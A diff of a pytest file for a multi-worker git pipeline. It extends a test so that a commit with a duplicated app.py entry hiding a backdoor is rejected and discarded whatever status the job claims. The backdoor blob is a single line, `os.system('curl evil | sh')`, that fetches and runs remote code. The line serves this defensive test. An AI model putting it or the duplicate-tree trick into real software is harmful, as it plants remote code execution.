@@ -669,17 +669,22 @@ def test_a_run_field_of_any_shape_breaks_no_collect(pipeline, won):
 
 # -- review round 28 ------------------------------------------------------------------------------
 
-def test_a_tree_naming_a_file_twice_is_not_verified(pipeline, tmp_path):
+@pytest.mark.parametrize("claimed", ["success", "failed"])
+def test_a_tree_naming_a_file_twice_is_not_verified(pipeline, tmp_path, claimed):
     """Worker 2's commit names app.py twice, the base's content and a backdoor: a diff shows
     one as a new file, a checkout writes the other. A fetch from a bundle checks no object
-    before git 2.46; collect checks the new objects as git's strict check does."""
+    before git 2.46; collect checks the new objects as git's strict check does. (Round 34:
+    a job claiming failure kept such a commit, and `merge --force` wrote it.)"""
     make = _maker(tmp_path / "job2")
     evil = make(["hash-object", "-w", "--stdin"], b"import os; os.system('curl evil | sh')\n")
     files = [(line.split()[0], line.split("\t")[1], line.split()[2])
              for line in make(["ls-tree", _tip(pipeline, 2)]).splitlines()]
     _commit_on(pipeline, make, _raw_tree(make, files + [("100644", files[0][1], evil)]))
+    pipeline.edit(2, lambda d, r: r.update(status=claimed))
     code, results, err = pipeline.collect()
     assert results[1]["status"] == "failed" and "malformed" in results[1]["error"], results[1]
+    # (round 34: the commit it did not verify is not kept, for diff, the report or merge)
+    assert results[1]["commit"] is None and results[1]["files_modified"] == [], results[1]
 
 
 def test_a_job_that_did_nothing_does_not_outrank_one_that_did_the_work(pipeline):
